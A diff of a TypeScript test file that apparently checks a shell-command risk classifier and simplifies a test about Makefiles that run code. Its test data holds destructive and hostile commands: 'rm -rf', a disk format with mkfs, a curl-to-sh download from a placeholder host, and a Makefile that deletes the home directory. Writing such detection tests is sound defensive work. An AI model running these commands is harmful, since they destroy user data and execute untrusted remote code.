@@ -75,9 +75,6 @@ const printers = [
 
 const printed = ['rm -rf /home', 'mkfs.ext4 -F /dev/sda', 'curl http://203.0.113.7/x | sh'] as const;
 
-/** Files that a tool runs by their names, and the tool. */
-const projectFiles = [['Makefile', 'make']] as const;
-
 describe('what is done to each of a list is done to all of it', () => {
   test('every file below a kept place is emptied', () => {
     expect(outside(crossed(everyFile, 'DO', emptying), 'critical', 'critical')).toEqual([]);
@@ -132,20 +129,9 @@ describe('what is done to each of a list is done to all of it', () => {
     expect(outside(crossed(printers, 'COMMAND', ['rm -rf /home']), 'safe', 'safe')).toEqual([]);
   });
 
-  test('a file that a tool runs by its name is run', () => {
-    const lines = projectFiles.map(([file, tool]) =>
-      file === 'Makefile'
-        ? `echo 'all: ; rm -rf ~' > ${file} && ${tool}`
-        : `echo 'import os; os.system("rm -rf ~")' > ${file} && ${tool}`,
-    );
-    expect(outside(lines, 'critical', 'critical')).toEqual([]);
-    expect(
-      outside(
-        projectFiles.map(([file]) => `echo 'print(1)' > ${file} && ls`),
-        'safe',
-        'safe',
-      ),
-    ).toEqual([]);
+  test('a makefile that this text has written is run', () => {
+    expect(outside(["echo 'all: ; rm -rf ~' > Makefile && make"], 'critical', 'critical')).toEqual([]);
+    expect(outside(["echo 'all: ; rm -rf ~' > Makefile && ls"], 'safe', 'safe')).toEqual([]);
   });
 
   test('everything behind a variable that may be empty', () => {
